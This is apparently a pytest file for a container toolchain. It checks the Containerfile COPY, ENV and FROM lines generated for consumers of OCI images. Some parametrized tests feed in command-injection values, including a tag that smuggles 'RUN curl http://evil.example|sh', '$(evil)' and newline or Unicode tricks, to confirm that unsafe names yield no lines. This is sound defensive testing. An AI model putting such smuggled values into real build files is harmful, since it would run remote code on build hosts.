"""Tests of the Containerfile lines for consumers, which depend on the files in an image."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.evidence_fixtures import FILES, finished_base, finished_llvm, small_image
from tests.request_fixtures import specs
from toolchain.cli.app import app
from toolchain.core.cache import Cache
from toolchain.oci.image import ImageSpec, add_layer, write_image, write_index
from toolchain.oci.labels import CACHE_MOUNT
from toolchain.oci.layer import compress, write_layer
from toolchain.oci.layout import Layout
from toolchain.oci.reference import LayoutRef, RegistryRef
from toolchain.publish.consumer import Use, use_of
from toolchain.request.model import Request

PREFIX = "usr/lib64/llvm-triton-10dc3a8e"
LLVM = {f"{PREFIX}/bin/mlir-tblgen": b"x", f"{PREFIX}/lib/cmake/mlir/MLIRConfig.cmake": b"x"}
SITE = "usr/lib/toolchain/triton"
DIST = f"{SITE}/triton-3.7.1.dist-info"
TRITON = {
    f"{SITE}/triton/__init__.py": b"__version__ = '3.7.1'\n",
    f"{DIST}/METADATA": b"Metadata-Version: 2.1\nName: triton\nVersion: 3.7.1\n",
    f"{DIST}/RECORD": b"triton/__init__.py,,\ntriton-3.7.1.dist-info/METADATA,,\ntriton-3.7.1.dist-info/WHEEL,,\n"
    b"triton-3.7.1.dist-info/RECORD,,\n",
    f"{DIST}/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: py3-none-any\n",
}
AOTRITON = {"usr/lib64/aotriton-0.11b/lib/cmake/aotriton/aotriton-config.cmake": b"x"}
KERNELS = {"usr/lib64/flash-attn-kernels/gfx942/a.hsaco": b"x"}
SYSTEM = {"etc/os-release": b"ID=debian\n", "usr/lib/llvm-19/lib/cmake/llvm/LLVMConfig.cmake": b"x"}
OWN = "sha256:" + "a" * 64
CACHE = {"io.triton.cache/ABC/scale.json": b"{}", "io.triton.manifest/manifest.json": b"{}"}
REF = "registry.example:5000/ns/thing"


def use(tmp_path: Path, files: dict[str, bytes], *, own: bool = True, partial: str = "") -> tuple[Use, str]:
    """Return the consumer lines of an image with these files, and the digest of its index."""
    layout = Layout(tmp_path / "layout").ensure()
    files = {**FILES, **files}
    label = OWN if own else None
    index = write_index(layout, [small_image(layout, tmp_path / "work", files=files, label=label, partial=partial)])
    host, _, repository = REF.partition("/")
    return use_of(layout, index, RegistryRef(host, repository, tag="latest"), name="thing"), index.digest


def test_llvm_image_gives_copy_and_env_lines(tmp_path: Path) -> None:
    found, digest = use(tmp_path, LLVM)
    assert {
        f"COPY --from={REF}@{digest} /{PREFIX} /{PREFIX}",
        f"ENV LLVM_SYSPATH=/{PREFIX}",
        "ENV TRITON_APPEND_CMAKE_ARGS=-DCMAKE_BUILD_TYPE=Release",
    } < set(found.text())
    assert found.as_json()["prefix"] == f"/{PREFIX}"


def test_partial_llvm_with_a_cmake_package_has_no_llvm_syspath_line(tmp_path: Path) -> None:
    found, _ = use(tmp_path, LLVM, partial="LLVMDemangle and LLVMSupport only")
    assert found.kind == "llvm-part"
    assert "LLVM_SYSPATH" not in "".join(found.lines)
    assert found.lines[-1].startswith("# ")


def test_llvm_of_another_tool_gives_a_copy_line_and_a_note(tmp_path: Path) -> None:
    files = {"opt/llvm/lib/cmake/llvm/LLVMConfig.cmake": b"x", "etc/os-release": b"x"}
    found, digest = use(tmp_path, files, own=False)
    lines = list(found.text())
    assert lines[0] == f"COPY --from={REF}@{digest} /opt/llvm /opt/llvm"
    assert lines[-1].startswith("# not known: ")


@pytest.mark.parametrize("mount", ["/opt/triton-cache", "/opt/a b"])
def test_triton_cache_is_copied_to_its_mount_label_if_that_is_a_plain_path(tmp_path: Path, mount: str) -> None:
    layout = Layout(tmp_path / "layout").ensure()
    layer = compress(write_layer(_tree(tmp_path, CACHE), tmp_path / "layer.tar"), tmp_path / "blob", "gzip")
    spec = ImageSpec(arch="amd64", layers=(add_layer(layout, layer),), labels={CACHE_MOUNT: mount})
    index = write_index(layout, [write_image(layout, spec)])
    host, _, repository = REF.partition("/")
    found = use_of(layout, index, RegistryRef(host, repository, tag="latest"))
    if mount == "/opt/triton-cache":
        assert found.lines[:2] == (
            f"COPY --from={REF}@{index.digest} /io.triton.cache/ /opt/triton-cache/",
            "ENV TRITON_CACHE_DIR=/opt/triton-cache",
        )
    else:
        assert found.lines[0].startswith("#")
        assert found.unknown


def _tree(folder: Path, files: Mapping[str, bytes]) -> Path:
    for name, content in files.items():
        path = folder / "tree" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return folder / "tree"


FOR_A_GPU = {"usr/lib64/llvm-amdgpu-6bc4aaf6/lib/cmake/llvm/LLVMConfig.cmake": b"x"}


@pytest.mark.parametrize(
    ("files", "kind", "line"),
    [
        (AOTRITON, "aotriton", "ENV AOTRITON_INSTALLED_PREFIX=/usr/lib64/aotriton-0.11b"),
        (KERNELS, "kernels", "/usr/lib64/flash-attn-kernels /usr/lib64/flash-attn-kernels"),
        (SYSTEM, "base", f"FROM {REF}@sha256:"),
        ({f"{PREFIX}/bin/mlir-tblgen": b"x"}, "llvm-part", f"COPY --from={REF}@sha256:"),
        (FOR_A_GPU, "llvm-part", "/usr/lib64/llvm-amdgpu-6bc4aaf6 /usr/lib64/llvm-amdgpu-6bc4aaf6"),
        (TRITON, "triton", "python3 -m pip install --no-deps /tmp/triton-3.7.1-py3-none-any.whl"),
        ({"usr/lib/toolchain/wheels/vllm/__init__.py": b""}, "wheels", f"FROM {REF}@sha256:"),
        ({"usr/share/toolchain/wheels.json": b"{}"}, "wheels", f"FROM {REF}@sha256:"),
        (CACHE, "triton-cache", "/io.triton.cache/ PATH/"),
    ],
    ids=["aotriton", "kernels", "base", "part", "gpu", "triton", "wheel", "wheels", "cache"],
)
def test_image_kind_is_recognized_by_its_files(tmp_path: Path, files: dict[str, bytes], kind: str, line: str) -> None:
    found, _ = use(tmp_path, files)
    assert found.kind == kind
    assert any(line in one for one in found.lines), found.lines
    assert "LLVM_SYSPATH" not in "".join(found.lines)


@pytest.mark.parametrize(
    "files", [{"a file": b"x"}, {"a b\nRUN evil/lib/cmake/llvm/LLVMConfig.cmake": b"x"}], ids=["nothing", "hostile"]
)
def test_unrecognized_image_gives_only_comments(tmp_path: Path, files: dict[str, bytes]) -> None:
    found, _ = use(tmp_path, files, own=False)
    assert found.kind == "unknown"
    assert found.unknown
    assert all(line.startswith("# ") and "\n" not in line for line in found.text())


def test_image_in_a_folder_gives_build_context_and_skopeo_lines(tmp_path: Path) -> None:
    layout = Layout(tmp_path / "layout").ensure()
    index = write_index(layout, [small_image(layout, tmp_path / "work", files={**FILES, **LLVM}, label=OWN)])
    lines = use_of(layout, index, LayoutRef(layout.root, "thing.1"), name="thing").lines
    context = f"--build-context localhost/thing:latest=oci-layout://{layout.root}@{index.digest}"
    assert f"#   docker buildx build {context} ." in lines
    assert f"#   skopeo copy oci:{layout.root}:thing.1 docker-daemon:localhost/thing:latest" in lines
    assert f"COPY --from=localhost/thing:latest /{PREFIX} /{PREFIX}" in lines


@pytest.mark.parametrize(
    ("folder", "tag"),
    [
        ("layout", "x\nRUN curl http://evil.example|sh #"),
        ("layout", "x\u2028RUN evil"),
        ("layout", "x y"),
        ("layout", "$(evil)"),
        ("layout", "-x"),
        ("lay\nRUN evil", "x"),
        ("lay:out", "x"),
        ("lay\u202eout", "x"),
    ],
)
def test_unsafe_folder_or_tag_gives_no_lines(tmp_path: Path, folder: str, tag: str) -> None:
    layout = Layout(tmp_path / folder).ensure()
    index = write_index(layout, [small_image(layout, tmp_path / "work", files={**FILES, **LLVM}, label=OWN)])
    layout.tag(index, "x")
    path = layout.root / "index.json"
    value = json.loads(path.read_text())
    value["manifests"][0]["annotations"]["org.opencontainers.image.ref.name"] = tag
    path.write_text(json.dumps(value))
    found = use_of(layout, index, LayoutRef(layout.root, tag))
    assert found.lines == ()
    assert found.source == ""
    done = CliRunner().invoke(app, ["inspect", f"oci:{layout.root}{'/' if ':' in folder else ''}", "--use"])
    assert done.exit_code == 0, done.output
    assert [line for line in done.stdout.splitlines() if not line.startswith("# not known: ")] == []


def test_folder_is_quoted_for_the_shell(tmp_path: Path) -> None:
    layout = Layout(tmp_path / "a $(b) 'c'").ensure()
    index = write_index(layout, [small_image(layout, tmp_path / "work", files={**FILES, **LLVM}, label=OWN)])
    lines = use_of(layout, index, LayoutRef(layout.root, "x")).lines
    copied = [shlex.split(line.lstrip("# ")) for line in lines if "skopeo copy" in line]
    assert {words[2] for words in copied} == {f"oci:{layout.root}:x"}


def test_pip_line_installs_the_triton_of_the_image(tmp_path: Path) -> None:
    """The test runs the printed line with a folder in the place of the mount."""
    found, _ = use(tmp_path, TRITON)
    for name, content in TRITON.items():
        (tmp_path / "image" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "image" / name).write_bytes(content)
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "python3").symlink_to(sys.executable)
    run = " ".join(line.removesuffix("\\") for line in found.lines if not line.startswith("#"))
    script = run[run.index("cd /mnt") :].replace("/tmp/", "$HERE/").replace("/mnt/triton", f"$HERE/image/{SITE}")
    env = {"PATH": f"{tmp_path}/bin:{os.environ['PATH']}", "PIP_NO_INDEX": "1", "HERE": str(tmp_path)}
    env["PIP_TARGET"] = str(tmp_path / "site")
    done = subprocess.run(["sh", "-ec", script], env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "site/triton/__init__.py").read_bytes() == TRITON[f"{SITE}/triton/__init__.py"]


def test_publish_and_inspect_print_the_same_consumer_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cache = Cache(tmp_path / "cache")
    finished_base(cache, tmp_path / "base")
    finished_llvm(Request(cache=cache, sources=specs({"llvm": "distro:llvm-toolchain-22"})), tmp_path / "llvm", LLVM)
    monkeypatch.chdir(tmp_path)
    words = ["llvm-triton", "--cache", str(cache.root)]
    done = CliRunner().invoke(app, ["publish", "oci:out dir", *words])
    assert done.exit_code == 0, done.output
    assert "COPY" not in done.stdout, "that is data"
    assert len(done.stdout.splitlines()) == 1
    ref = "oci:out dir:llvm-triton-22.1.8-debian13"
    said = CliRunner().invoke(app, ["inspect", ref, "--use"])
    assert said.exit_code == 0, said.output
    assert "ENV LLVM_SYSPATH=" in said.stdout
    assert done.stderr.endswith(said.stdout)
    shown = json.loads(CliRunner().invoke(app, ["inspect", ref, "--json"]).stdout)["images"][0]
    assert "application/vnd.cyclonedx+json" in {one["type"] for one in shown["attached"]}
    sent = json.loads(CliRunner().invoke(app, ["publish", "oci:out dir", *words, "--json"]).stdout)["published"][0]
    assert "\n".join(sent["use"]["lines"]) in said.stdout


def test_inspect_names_a_base_in_a_folder_as_publish_does(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache")
    finished_base(cache, tmp_path / "base")
    out = f"oci:{tmp_path / 'out'}"
    done = CliRunner().invoke(app, ["publish", out, "toolchain-base", "--cache", str(cache.root)])
    said = CliRunner().invoke(app, ["inspect", f"{out}:toolchain-base-debian13", "--use"])
    assert "FROM localhost/toolchain-base-debian13:latest" in said.stdout, said.output
    assert done.stderr.endswith(said.stdout)
